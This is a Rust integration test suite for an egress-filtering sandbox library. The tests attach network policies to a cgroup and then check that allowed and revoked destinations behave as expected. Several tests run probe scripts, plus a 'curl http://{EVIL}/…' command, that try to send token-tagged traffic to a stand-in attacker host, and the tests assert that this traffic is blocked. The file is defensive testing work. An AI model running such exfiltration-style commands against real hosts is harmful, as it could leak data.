//! The library, as a container runtime uses it: in this process, in a thread that stands in the lab's namespaces.

#[path = "../../egress-agent/examples/runtime.rs"]
#[expect(dead_code, reason = "its command line is for people; what it does is called here")]
mod runtime;

mod rollback;

use crate::job::{Job, drops, listeners, now_ns};
use egress_agent::{
    observe::event::{Kind, Verdict},
    policy::Policy,
    sandbox::{self, Directories, Error, Sandbox},
};
use lab::{DNS, DNS2, EVIL, Entry, Lab, OK, until};
use std::{path::Path, time::Duration};

const SOON: Duration = Duration::from_secs(10);

pub(crate) fn directories(lab: &Lab) -> Directories {
    Directories { state: lab.state_dir(), pin: lab.pin_dir() }
}

pub(crate) fn policy(allow: &str) -> Policy {
    let text = format!("version = 1\n[allow]\n{allow}\n[dns]\nservers = [\"{DNS}\"]\npre_resolve = \"off\"\n");
    Policy::from_toml(&text).unwrap()
}

pub(crate) fn addresses(list: &[&str]) -> Policy {
    policy(&format!("addresses = {list:?}"))
}

/// Attaches as a process in `outer` would, which enters the box.
fn attach(lab: &Lab, job: &Job<'_>, policy: Policy) -> Sandbox {
    let builder = Sandbox::builder(policy).cgroup(job.cgroup().path()).netns(lab.box_ns().path());
    lab.outer_ns().enter(|| builder.dirs(directories(lab)).attach().unwrap())
}

/// The same in the box itself.
pub(crate) fn attach_in_the_box(lab: &Lab, job: &Job<'_>, policy: Policy) -> Sandbox {
    lab.box_ns().enter(|| Sandbox::builder(policy).cgroup(job.cgroup().path()).dirs(directories(lab)).attach().unwrap())
}

#[test]
fn a_policy_is_in_force_when_attach_and_update_return() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let before = lab.snapshot();
    let token = lab.token("drip");
    for (shape, attach) in [("box", attach_in_the_box as fn(&Lab, &Job<'_>, Policy) -> _), ("netns", attach)] {
        let mut sandbox = attach(&lab, &job, policy("names = [\"ok.test\", \"a.test\"]"));
        let reach = |target: &str| job.curl(target, &lab.token(&format!("{shape}-{target}")));
        let hits = |target: &str| lab.hits(&lab.token(&format!("{shape}-{target}"))).len();
        assert_eq!(reach("ok.test"), Some(0), "{shape}");
        assert_eq!(reach("198.51.100.20"), Some(7), "{shape}");
        assert_eq!(
            (sandbox.generation(), sandbox.level().text.as_str()),
            (1, if shape == "box" { "L1" } else { "L2" })
        );

        // Added: at once. What was learned before goes on.
        sandbox.update(policy("names = [\"ok.test\", \"a.test\"]\naddresses = [\"198.51.100.20\"]")).unwrap();
        assert_eq!((reach("198.51.100.20"), reach("198.51.100.10")), (Some(0), Some(0)), "{shape}");
        let drip = job.spawn(&format!("exec {} {token}-{shape} {EVIL}", lab.probe("drip.py")));
        let flows = |kind: &str| drops(&lab, EVIL, &format!("{token}-{shape}"), kind);
        until(SOON, "a flow of each kind", || !flows("tcp").is_empty() && !flows("udp").is_empty());

        // Removed: at once, live flows and learned addresses too.
        sandbox.update(policy("names = [\"a.test\"]")).unwrap();
        let updated = now_ns();
        assert_eq!((reach("198.51.100.20"), hits("198.51.100.20")), (Some(7), 1), "{shape}");
        assert_eq!((reach("198.51.100.10"), hits("198.51.100.10")), (Some(7), 1), "{shape}");
        assert!(reach("ok.test").is_some_and(|code| [6, 7].contains(&code)), "{shape}");
        assert_eq!((hits("ok.test"), reach("a.test")), (1, Some(0)), "{shape}");
        for kind in ["tcp", "udp"] {
            let late: Vec<_> = flows(kind).into_iter().filter(|drop| *drop > updated).collect();
            assert!(late.is_empty(), "{shape}: {kind} after update had returned: {late:?}");
        }
        drop(drip);
        assert_eq!(sandbox.generation(), 3);
        assert_eq!(job.status().1["generation"], 3);

        // Detached by Drop.
        drop(sandbox);
        assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new(), "{shape}");
        assert_eq!(job.curl("198.51.100.20", &lab.token(&format!("{shape}-open"))), Some(0));
    }
}

#[test]
fn a_refused_update_leaves_the_old_policy() {
    let lab = Lab::new();
    let (job, bare) = (Job::new(&lab, "job"), Job::new(&lab, "bare"));
    let mut sandbox = attach_in_the_box(&lab, &job, policy("names = [\"ok.test\"]"));
    // A policy that the kernel could take, and the name half refuses: it would ask itself.
    let port = listeners(lab.box_ns())[0];
    let text = format!("version = 1\n[allow]\nnames = [\"evil.test\"]\n[dns]\nservers = [\"127.0.0.1:{port}\"]\n");
    let itself = sandbox.update(Policy::from_toml(&text).unwrap()).unwrap_err();
    assert!(matches!(itself, Error::Dns(_)), "{itself}");
    let mut many = Policy::deny_all();
    for number in 0..2000_u32 {
        many = many.allow(format!("192.0.2.1:{}", 1 + number * 7).parse().unwrap());
    }
    let many = sandbox.update(many).unwrap_err();
    assert!(matches!(many, Error::Compile(_)), "{many}");
    assert_eq!(sandbox.generation(), 1);
    assert_eq!(job.curl("ok.test", &lab.token("ok")), Some(0));
    assert!(job.curl("evil.test", &lab.token("closed")).is_some_and(|code| code != 0));

    // Another server is asked from the next question on.
    let text = format!("version = 1\n[allow]\nnames = [\"a.test\"]\n[dns]\nservers = [\"{DNS2}\"]\n");
    sandbox.update(Policy::from_toml(&text).unwrap()).unwrap();
    assert_eq!(job.curl("a.test", &lab.token("a")), Some(0));
    assert!(
        lab.zone().queries_for("a.test").iter().all(|query| query.server.ip() == DNS2),
        "{:?}",
        lab.zone().queries_for("a.test")
    );
    sandbox.detach().unwrap();

    let mut sandbox = attach_in_the_box(&lab, &bare, addresses(&["198.51.100.10"]));
    assert_eq!(bare.curl("198.51.100.10", &lab.token("bare")), Some(0));
    assert_eq!(bare.curl("198.51.100.20", &lab.token("closed")), Some(7));
    lab.expect_hits(&lab.token("bare"), 1);
    assert_eq!(lab.hits(&lab.token("closed")).len(), 0);

    // And a sandbox that somebody else took down takes no policy any more.
    sandbox::detach(&directories(&lab), bare.cgroup().path()).unwrap();
    assert!(matches!(sandbox.update(addresses(&["198.51.100.20"])), Err(Error::NotAttached { .. })));
    drop(sandbox);
    assert!(!lab.state_dir().join("sandboxes").exists());
}

/// A socket's past is no pass: each packet is judged by what it is.
#[test]
fn a_revoked_destination_stays_closed_whatever_the_socket_did_before() {
    const PROBE: &str = "import socket, sys
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.connect((sys.argv[2], 9))
sock.send(sys.argv[1].encode() + b'-before')
print('ready', flush=True)
sys.stdin.readline()
for way in range(3):
    try:
        sock.sendto(sys.argv[1].encode() + b'-allowed', (sys.argv[3], 9))
    except OSError as error:
        print('allowed', error.errno)
    try:
        sock.send(sys.argv[1].encode() + b'-after')
        print('sent')
    except OSError as error:
        print('refused', error.errno)";
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let (token, file) = (lab.token("mark"), lab.file("mark.py", PROBE));
    let mut sandbox = attach_in_the_box(&lab, &job, addresses(&["198.51.100.20", "198.51.100.10"]));
    let mut probe = job.spawn(&format!("exec {} -I {} {token} {EVIL} {OK}", lab::PYTHON, file.display()));
    probe.says("ready", SOON);
    sandbox.update(addresses(&["198.51.100.10"])).unwrap();
    probe.feed(b"go\n");
    let said = probe.finish(Duration::from_secs(3600));
    assert_eq!(said.exits(0).stdout.matches("refused 1").count(), 3, "{said}");
    let carried =
        |to, text: &str| lab.frames_to(to).iter().filter(|frame| frame.carries(&format!("{token}-{text}"))).count();
    assert_eq!((carried(EVIL, "before"), carried(EVIL, "after"), carried(OK, "allowed")), (1, 0, 3));
    sandbox.detach().unwrap();
}

/// A permit ends with its name's time for whatever is new; what is connected goes on, until its rule goes.
#[test]
fn an_expired_permit_opens_nothing_new_and_ends_nothing_old() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    for name in ["ok.test", "twin.test"] {
        lab.zone().put(name, Entry::at(&["198.51.100.10"]).ttl(1));
    }
    let short = |names: &[&str]| {
        let text = format!(
            "version = 1\n[allow]\nnames = {names:?}\n[dns]\nservers = [\"{DNS}\"]\npre_resolve = \"off\"\npermit_min = \"1s\"\ngrace = \"3s\"\n"
        );
        Policy::from_toml(&text).unwrap()
    };
    for (shape, attach) in [("box", attach_in_the_box as fn(&Lab, &Job<'_>, Policy) -> _), ("netns", attach)] {
        let token = lab.token(shape);
        let mut sandbox = attach(&lab, &job, short(&["ok.test:1-65535", "twin.test:1-65535"]));
        let reach = |target: &str| job.curl(target, &token);
        let expires = || until(SOON, "the permit expires", || reach("198.51.100.10") == Some(7));
        assert_eq!(reach("ok.test"), Some(0), "{shape}");
        expires();
        let mut drip = job.spawn(&format!(
            "getent hosts ok.test; getent hosts twin.test; exec {} {token} {OK}",
            lab.probe("drip.py")
        ));
        let heard = |after: u64| ["tcp", "udp"].map(|kind| drops(&lab, OK, &token, kind).last() > Some(&after));
        until(SOON, "a flow of each kind, under a new permit", || heard(0) == [true; 2]);
        expires();
        let expired = now_ns();
        until(SOON, "what is connected goes on", || heard(expired) == [true; 2]);
        // Another name leads there as before, but nothing was connected under it. At a device, which looks at packets, it was
        // the one that opened the last of them.
        let left = if shape == "box" { "twin.test:1-65535" } else { "a.test" };
        sandbox.update(short(&[left])).unwrap();
        let updated = now_ns();
        drip.says(&format!("refused 50 to {OK}"), SOON);
        assert_eq!(heard(updated), [false; 2], "{shape}: the rule went, and all that rested on it");
        sandbox.detach().unwrap();
    }
}

#[test]
fn a_hundred_updates_leave_no_rule_and_no_permit_behind() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let own = "names = [\"ok.test\"]\naddresses = [\"198.51.100.11:8080\"]";
    let mut sandbox = attach_in_the_box(&lab, &job, policy(own));
    let entries = || {
        let maps = lab.pin_dir().join(sandbox::list(&directories(&lab)).unwrap()[0].sandbox.clone()).join("maps");
        ["RULES", "PERMITS", "NETWORKS"].map(|map| live_entries(&lab, &maps.join(map)))
    };
    let first = entries();
    assert!(first[0] >= 2 && first[1] >= 1, "{first:?}");
    for round in 0..100_u8 {
        let other = format!(
            "names = [\"ok.test:{}\", \"n{round}.test\"]\naddresses = [\"192.0.2.{round}:1-1{round}\", \"203.0.113.0/24:1{round}\"]",
            1000 + u16::from(round)
        );
        sandbox.update(policy(&other)).unwrap();
        if round % 25 == 0 {
            let port = format!("ok.test:{}", 1000 + u16::from(round));
            assert_eq!(job.curl(&port, "learned"), Some(7), "resolved and allowed, nobody listens");
            assert_eq!(job.curl("198.51.100.11:8080", "gone"), Some(7));
        }
    }
    sandbox.update(policy(own)).unwrap();
    assert_eq!(entries(), first, "rules, permits, networks");
    assert_eq!(job.curl("ok.test", &lab.token("ok")), Some(0));
    assert_eq!(job.curl("198.51.100.11:8080", &lab.token("ok")), Some(0));
    assert_eq!(job.curl("198.51.100.20", &lab.token("closed")), Some(7));
    lab.expect_hits(&lab.token("ok"), 2);
    assert_eq!(sandbox.generation(), 102);
    sandbox.detach().unwrap();
}

/// Entries of a pinned map whose value is not all zero.
fn live_entries(lab: &Lab, map: &Path) -> usize {
    let dump = lab.outer_ns().sh(&format!("bpftool -j map dump pinned {}", map.display()));
    let dump: serde_json::Value = serde_json::from_str(&dump.exits(0).stdout).unwrap();
    let live = |entry: &&serde_json::Value| {
        entry["value"].as_array().is_some_and(|bytes| bytes.iter().any(|byte| byte != "0x00" && *byte != 0))
    };
    dump.as_array().unwrap().iter().filter(live).count()
}

#[test]
fn events_come_as_an_iterator_that_ends_with_the_sandbox() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let mut sandbox = attach_in_the_box(&lab, &job, policy("names = [\"ok.test\"]"));
    let events = sandbox.events();
    assert_eq!(job.curl("ok.test", &lab.token("ok")), Some(0));
    assert_eq!(job.curl("198.51.100.20", "closed"), Some(7));
    sandbox.update(policy("names = [\"a.test\"]")).unwrap();
    sandbox.detach().unwrap();
    let events: Vec<_> = events.collect();
    let kinds: Vec<Kind> = events.iter().map(|event| event.event).collect();
    assert!(kinds.contains(&Kind::Permit) && kinds.contains(&Kind::Reload), "{kinds:?}");
    assert_eq!(kinds.last(), Some(&Kind::Detach), "{kinds:?}");
    let denied = events.iter().find(|event| event.verdict == Some(Verdict::Deny)).unwrap();
    assert_eq!((denied.event, denied.dst_ip, denied.dst_port), (Kind::Connect, Some(EVIL), Some(80)), "{denied:?}");
    lab.expect_silence(EVIL);
}

#[test]
fn pinned_it_outlives_its_owner() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let before = lab.snapshot();
    let mut sandbox = attach_in_the_box(&lab, &job, addresses(&["198.51.100.10"]));
    let name = sandbox.name().to_owned();
    sandbox.pin(&name).unwrap();
    drop(sandbox);
    assert_eq!(job.curl("198.51.100.20", &lab.token("closed")), Some(7));
    assert_eq!(job.curl("198.51.100.10", &lab.token("allowed")), Some(0));
    let found = sandbox::list(&directories(&lab)).unwrap();
    assert!(found.len() == 1 && found[0].in_force && found[0].sandbox == name, "{found:?}");
    sandbox::detach(&directories(&lab), job.cgroup().path()).unwrap();
    assert!(sandbox::list(&directories(&lab)).unwrap().is_empty());
    assert_eq!(job.curl("198.51.100.20", &lab.token("open")), Some(0));
    lab.expect_hits(&lab.token("allowed"), 1);
    assert_eq!(lab.hits(&lab.token("closed")).len(), 0);
    assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new());
}

/// `examples/runtime.rs`: closed before the process is there.
#[test]
fn the_example_contains_a_command() {
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let before = lab.snapshot();
    let script = format!(
        "curl -fsS -m3 http://ok.test/{0} >&2 || exit 9; curl -sS -m3 http://{EVIL}/{0} >&2; exit $?",
        lab.token("example")
    );
    let mut command = lab.box_ns().command("setpriv");
    command.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--bounding-set=-all", "sh", "-c", &script]);
    command.stderr(std::process::Stdio::null());
    let contained = lab.box_ns().enter(|| {
        let ended = runtime::contain(policy("names = [\"ok.test\"]"), job.cgroup().path(), directories(&lab), command);
        ended.map_err(|error| error.to_string())
    });
    let (status, denied) = contained.unwrap();
    assert_eq!(status.code(), Some(7));
    assert!(
        denied.iter().any(|event| event.dst_ip == Some(EVIL) && event.comm.as_deref() == Some("curl")),
        "{denied:?}"
    );
    lab.expect_hits(&lab.token("example"), 1);
    lab.expect_silence(EVIL);
    assert_eq!(before.diff(&lab.snapshot()), Vec::<String>::new());
}
